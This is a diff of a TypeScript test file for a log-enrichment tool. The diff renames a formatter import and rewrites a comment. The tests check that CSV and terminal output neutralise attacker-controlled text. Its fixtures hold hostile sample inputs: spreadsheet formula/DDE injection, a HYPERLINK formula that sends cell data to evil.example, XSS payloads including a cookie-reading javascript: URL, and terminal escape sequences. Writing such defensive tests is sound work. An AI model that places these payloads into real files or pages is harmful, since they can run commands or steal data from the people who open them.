@@ -5,7 +5,6 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createEnrichHttp } from "../../functions/enrichHttp.js";
 import { createEnrichTimer } from "../../functions/enrichTimer.js";
 import { createJobDeps } from "../../lib/adapters/azure/createJobDeps.js";
-import { formatRecords } from "../../lib/adapters/cli/output/formatRecords.js";
 import { ConfigError } from "../../lib/core/errors.js";
 import { RECORD_COLUMNS } from "../../lib/core/records/columns.js";
 import type { EnrichmentRecord } from "../../lib/core/records/EnrichmentRecord.js";
@@ -16,6 +15,7 @@ import { kqlTokens } from "../../tools/doubles/kqlTokens.js";
 import { DEVSTORE_KEY } from "../../tools/doubles/startAzurite.js";
 import { TEST_BEARER_TOKEN } from "../../tools/doubles/staticTokenCredential.js";
 import { type AzureHarness, RULE_ID, startAzureHarness, WORKSPACE_ID } from "../functions/azureHarness.js";
+import { formatText } from "../support/formatText.js";
 import { validateKql } from "../support/kusto.js";
 import { buildFaultData } from "./buildFaultData.js";
 import { markdownTable, writeReportSection } from "./writeReportSection.js";
@@ -221,7 +221,7 @@ describe("attacker text in the data", () => {
   // Text the attacker controls: the command the shell ran, and what the attacker's requests carried.
   const COMMAND = `=cmd|' /C calc'!A0 & echo "<script>alert(1)</script>" | more; // \u0007\u001b[31mred\r\n\u202etxt.exe`;
   const ALERT_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
-  // No "+": W3CIISLog keeps IIS's "+" for a space in user agents, and the reader turns it back (by design).
+  // Kept as logged, "+" and all (docs/design.md §4.10): the records carry it unchanged.
   const USER_AGENT = `@SUM(1*1)|cmd|' /C calc'!A0 <img src=x onerror=alert(1)> "quoted" \u0000\u001b]0;title\u0007`;
   const QUERY = `+cmd=whoami&x='"|;--<b>`;
   const REFERER = `-2+3 javascript:alert(document.cookie)`;
@@ -269,7 +269,7 @@ describe("attacker text in the data", () => {
   });
 
   it("writes CSV whose formula-looking cells are neutralised and whose other cells are the values", () => {
-    const csv = formatRecords(records.map(toEnrichmentRecord), "csv");
+    const csv = formatText(records.map(toEnrichmentRecord), "csv");
     const rows = parse<Record<string, string>>(csv, { columns: true });
     const hostile = rows.find((row) => row.ProcessCommandLine === `'${COMMAND}`);
     expect(hostile).toBeDefined();
@@ -288,7 +288,7 @@ describe("attacker text in the data", () => {
   });
 
   it("prints a terminal table in which control characters are inert", () => {
-    const table = formatRecords(records.map(toEnrichmentRecord), "table", 400);
+    const table = formatText(records.map(toEnrichmentRecord), "table", 400);
     // eslint-disable-next-line no-control-regex -- looking for control characters is the point
     expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
     expect(table).toContain("\\x1b[31mred");
